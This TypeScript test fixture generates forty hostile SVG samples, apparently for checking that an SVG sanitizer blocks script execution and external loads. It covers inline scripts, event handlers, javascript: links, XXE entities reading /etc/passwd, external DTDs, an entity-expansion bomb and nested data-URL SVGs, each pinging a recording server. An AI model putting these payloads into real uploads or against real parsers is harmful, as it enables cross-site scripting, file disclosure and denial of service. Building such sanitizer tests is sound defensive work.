/** Forty SVGs that try to run a script or load a file. `externalOrigin` is the origin of a server that records requests. */

const svg = (content: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"${attributes}>${content}<rect width="40" height="40" fill="#f5b301"/></svg>`
const base64 = (text: string) => Buffer.from(text).toString('base64')

export const hostileSvgs = (externalOrigin: string): Record<string, string> => {
  const script = `fetch('${externalOrigin}/run')`
  const nested = svg(`<script>${script}</script><image href="${externalOrigin}/nested.png" width="9" height="9"/>`)
  return {
    // scripts
    'inline script': svg(`<script>${script}</script>`),
    'script in a CDATA section': svg(`<script><![CDATA[${script}]]></script>`),
    'script by URL': svg(`<script href="${externalOrigin}/a.js"/>`),
    'script by xlink': svg(`<script xlink:href="${externalOrigin}/b.js"/>`),
    'script in a data URL': svg(`<script href="data:text/javascript,${encodeURIComponent(script)}"/>`),
    'script in a group': svg(`<g><defs><script>${script}</script></defs></g>`),
    'XHTML script': svg(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${script}</h:script>`),
    'script in a foreignObject': svg(
      `<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></body></foreignObject>`,
    ),
    // event handlers
    'load handler': svg('', ` onload="${script}"`),
    'handler on a shape': svg(`<rect width="40" height="40" onload="${script}" onclick="${script}" onmouseover="${script}"/>`),
    'handler on a picture': svg(`<image href="${externalOrigin}/missing.png" onerror="${script}" width="9" height="9"/>`),
    'handler in capitals': svg(`<g ONLOAD="${script}"/>`),
    'handler on an animation': svg(`<animate attributeName="x" dur="1ms" onbegin="${script}" onend="${script}"/>`),
    'handler set by animation': svg(`<rect width="1" height="1"><set attributeName="onmouseover" to="${script}"/></rect>`),
    'handler in a foreignObject': svg(
      `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${script}"/></foreignObject>`,
    ),
    'handler element': svg(`<handler xmlns="http://www.w3.org/2000/svg" type="application/ecmascript">${script}</handler>`),
    // links, images and frames
    picture: svg(`<image href="${externalOrigin}/c.png" width="40" height="40"/>`),
    'picture by xlink': svg(`<image xlink:href="${externalOrigin}/d.png" width="40" height="40"/>`),
    'picture without a scheme': svg(`<image href="${externalOrigin.replace('http:', '')}/e.png" width="40" height="40"/>`),
    'picture from a file': svg('<image href="file:///etc/passwd" width="40" height="40"/>'),
    'use element with another file': svg(`<use href="${externalOrigin}/f.svg#a"/>`),
    'link to a script URL': svg(`<a href="javascript:${script}"><rect width="40" height="40"/></a>`),
    'script URL written with entities': svg(`<a xlink:href="&#106;avascript&#58;${script}"><rect width="40" height="40"/></a>`),
    'picture in a filter': svg(
      `<filter id="f"><feImage href="${externalOrigin}/g.png"/></filter><rect width="40" height="40" filter="url(#f)"/>`,
    ),
    'iframe in a foreignObject': svg(
      `<foreignObject width="40" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${externalOrigin}/h.html"/></foreignObject>`,
    ),
    'base URL': svg('<image href="i.png" width="40" height="40"/>', ` xml:base="${externalOrigin}/"`),
    // style sheets
    'imported style sheet': svg(`<style>@import url("${externalOrigin}/j.css");</style>`),
    'style sheet with a picture': svg(`<style>rect{background:url(${externalOrigin}/k.png);fill:url(${externalOrigin}/k.svg#a)}</style>`),
    'font in a style sheet': svg(
      `<style>@font-face{font-family:x;src:url(${externalOrigin}/l.woff)}text{font-family:x}</style><text y="20">A</text>`,
    ),
    'style with escapes': svg(`<rect width="40" height="40" style="fill:u\\72l(${externalOrigin}/m.svg#a)"/>`),
    'fill from another file': svg(`<rect width="40" height="40" fill="url(${externalOrigin}/n.svg#a)"/>`),
    'style sheet by processing instruction': `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${externalOrigin}/o.css"?>${svg('')}`,
    // entities
    'entity from a file': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text y="20">&x;</text>')}`,
    'entity from a URL': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${externalOrigin}/p">]>${svg('<text y="20">&x;</text>')}`,
    'external document type': `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "${externalOrigin}/q.dtd" [<!ENTITY % y SYSTEM "${externalOrigin}/r.dtd"> %y;]>${svg('')}`,
    'entities of entities': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${'a'.repeat(50)}">${Array.from('bcdefghi', (name, i) => `<!ENTITY ${name} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>${svg('<text y="20">&i;</text>')}`,
    'markup in an entity': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY s "<script>${script.replaceAll("'", '&#39;')}</script>">]>${svg('&s;')}`,
    // data URLs
    'SVG in a data URL': svg(`<image href="data:image/svg+xml;base64,${base64(nested)}" width="40" height="40"/>`),
    'SVG in a data URL with the type PNG': svg(`<image href="data:image/png;base64,${base64(nested)}" width="40" height="40"/>`),
    'HTML page in a data URL': svg(`<use href="data:text/html;base64,${base64(`<script>${script}</script>`)}#a"/>`),
  }
}
